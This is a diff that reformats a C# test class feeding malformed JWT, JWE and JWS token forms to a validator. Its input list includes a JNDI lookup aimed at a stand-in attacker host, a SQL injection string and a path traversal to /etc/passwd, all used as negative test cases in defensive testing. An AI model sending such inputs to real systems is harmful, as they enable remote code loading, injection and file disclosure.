@@ -9,11 +9,32 @@ internal static class Forms
     {
         var good = TokenForge.Hs256;
         string[] parts = good.Token.Split('.');
-        foreach (var text in (string[])
-        [
-            ".", "..", "...", "....", "a", "a.b", "a.b.c", "AA.AA.AA", "e30.e30.e30", "null", "undefined", "[object Object]", "0", "true", "{}", "*",
-            "Bearer", "00000000-0000-0000-0000-000000000000", "${jndi:ldap://attacker.example/a}", "' OR 1=1 --", "../../etc/passwd",
-        ])
+        foreach (
+            var text in (string[])
+                [
+                    ".",
+                    "..",
+                    "...",
+                    "....",
+                    "a",
+                    "a.b",
+                    "a.b.c",
+                    "AA.AA.AA",
+                    "e30.e30.e30",
+                    "null",
+                    "undefined",
+                    "[object Object]",
+                    "0",
+                    "true",
+                    "{}",
+                    "*",
+                    "Bearer",
+                    "00000000-0000-0000-0000-000000000000",
+                    "${jndi:ldap://attacker.example/a}",
+                    "' OR 1=1 --",
+                    "../../etc/passwd",
+                ]
+        )
         {
             yield return new($"'{text}'", text);
         }
@@ -31,14 +52,24 @@ internal static class Forms
         yield return new("the claims alone", good.Payload);
 
         var encrypted = ForgeKeys.Encode("""{"alg":"dir","enc":"A256GCM","kid":"test"}""");
-        yield return new("a JWE", $"{encrypted}..{ForgeKeys.Encode(new byte[12])}.{parts[1]}.{ForgeKeys.Encode(new byte[16])}");
-        yield return new("a JWE with a key in it",
-            $"{encrypted}.{ForgeKeys.Encode(new byte[40])}.{ForgeKeys.Encode(new byte[12])}.{parts[1]}.{ForgeKeys.Encode(new byte[16])}");
+        yield return new(
+            "a JWE",
+            $"{encrypted}..{ForgeKeys.Encode(new byte[12])}.{parts[1]}.{ForgeKeys.Encode(new byte[16])}"
+        );
+        yield return new(
+            "a JWE with a key in it",
+            $"{encrypted}.{ForgeKeys.Encode(new byte[40])}.{ForgeKeys.Encode(new byte[12])}.{parts[1]}.{ForgeKeys.Encode(new byte[16])}"
+        );
         yield return new("a JWE in three parts", $"{encrypted}.{parts[1]}.{parts[2]}");
 
-        yield return new("a JWS as JSON", $$"""{"protected":"{{parts[0]}}","payload":"{{parts[1]}}","signature":"{{parts[2]}}"}""");
-        yield return new("a JWS as JSON with several signatures",
-            $$"""{"payload":"{{parts[1]}}","signatures":[{"protected":"{{parts[0]}}","signature":"{{parts[2]}}"}]}""");
+        yield return new(
+            "a JWS as JSON",
+            $$"""{"protected":"{{parts[0]}}","payload":"{{parts[1]}}","signature":"{{parts[2]}}"}"""
+        );
+        yield return new(
+            "a JWS as JSON with several signatures",
+            $$"""{"payload":"{{parts[1]}}","signatures":[{"protected":"{{parts[0]}}","signature":"{{parts[2]}}"}]}"""
+        );
         yield return new("a token in a token", good.With("cty", "\"JWT\"").WithPayload(good.Token).Token);
         yield return new("a token in a token that does not say so", good.WithPayload(good.Token).Token);
         yield return new("a token in a string in a token", good.WithPayload($"\"{good.Token}\"").Token);
